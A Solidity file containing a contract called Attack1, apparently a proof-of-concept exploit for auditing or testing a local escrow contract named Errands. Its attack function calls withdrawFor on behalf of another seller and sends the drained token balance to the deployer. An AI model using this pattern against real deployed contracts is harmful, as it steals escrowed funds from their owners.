// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IEscrow} from "@argosy/interfaces/IEscrow.sol";
import {Errands} from "./Errands.sol";

contract Attack1 {
    Errands private immutable escrow;
    address private immutable token;

    constructor(Errands escrow_, address token_) {
        escrow = escrow_;
        token = token_;
    }

    address private immutable me = msg.sender;

    function attack() external {
        escrow.withdrawFor(escrow.termsOf(1).seller, token);
        IERC20(token).transfer(me, IERC20(token).balanceOf(address(this)));
    }
}
